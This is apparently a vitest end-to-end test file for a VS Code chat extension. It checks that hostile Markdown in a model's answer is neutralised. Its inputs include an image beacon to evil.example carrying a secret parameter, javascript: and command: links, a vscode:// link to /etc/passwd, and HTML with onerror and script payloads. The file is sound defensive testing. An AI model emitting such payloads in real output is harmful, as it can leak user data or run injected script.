import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Clouds } from '../support/clouds/index.ts';
import { startClouds } from '../support/clouds/index.ts';
import type { Workbench } from '../support/workbench.ts';
import { openWorkbench } from '../support/workbench.ts';
import type { WorkbenchWindow } from '../support/workbench-window.ts';
import { answerOf, ask, newChat, openChat, textOf, untilEnded } from './conversation.ts';

const nova = 'Nova Pro';

let clouds: Clouds;
let workbench: Workbench;
let window: WorkbenchWindow;
const requestedHosts = new Set<string>();
const dialogs: string[] = [];

beforeAll(async () => {
  clouds = await startClouds({ firstPieceMs: 100, piecesPerSecond: 100 });
  const settings = { ...clouds.settings, 'parley.chatModel': 'bedrock:us.amazon.nova-pro-v1:0' };
  workbench = await openWorkbench({ settings, env: clouds.env });
  window = await workbench.openWindow();
  window.page.context().on('request', (request) => requestedHosts.add(new URL(request.url()).hostname));
  window.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openChat(window);
});

afterAll(async () => {
  await workbench?.close();
  await clouds?.stop();
});

/** The local models repeat the prompt in their answer, as Markdown. */
async function answerWith(markdown: string) {
  await newChat(window);
  await ask(window.chat, markdown);
  const answer = answerOf(window.chat, nova);
  await untilEnded(answer);
  expect(await textOf(answer)).toContain('a surprising measurement');
  return answer;
}

test('images of an answer are not loaded', async () => {
  const answer = await answerWith(
    '![pixel](https://evil.example/p.png?secret=1) and ![](//evil.example/q.png)',
  );
  expect(await textOf(answer)).toContain('pixel');
  expect(await answer.locator('img').count()).toBe(0);
  await window.screenshot('hostile-images');
});

test('links that would run something are not links', async () => {
  const answer = await answerWith(
    '[one](javascript:alert(1)) [two](command:workbench.action.closeWindow) [three](vscode://file/etc/passwd) [four](data:text/html,hi)',
  );
  expect(await answer.getByRole('link').count()).toBe(0);
  expect(await answer.locator('[href], [onclick]').count()).toBe(0);
  expect(await textOf(answer)).toMatch(/one.*two.*three.*four/s);
  await window.screenshot('hostile-links');
});

test('HTML of an answer is shown as text', async () => {
  const html = '<img src=https://evil.example/r.png onerror=alert(1)> <script>alert(2)</script> <iframe>';
  const answer = await answerWith(html);
  expect(await textOf(answer)).toContain(html);
  expect(await answer.locator('img, script, iframe').count()).toBe(0);
});

test('a link to the web is opened by VS Code, which asks first', async () => {
  const answer = await answerWith('[the manual](https://docs.example/manual)');
  await answer.getByRole('link', { name: 'the manual' }).click();
  const question = window.page.getByRole('dialog');
  await question.getByText('https://docs.example/manual').waitFor();
  await question.getByRole('button', { name: 'Cancel' }).click();
  expect(window.page.context().pages()).toHaveLength(1);
});

test('in all of this no request left the page, no script ran, and the security policy was not needed', () => {
  expect([...requestedHosts].filter((host) => host.endsWith('.example'))).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(window.consoleErrors.filter((text) => /security policy|trusted ?(html|type)/i.test(text))).toEqual(
    [],
  );
});
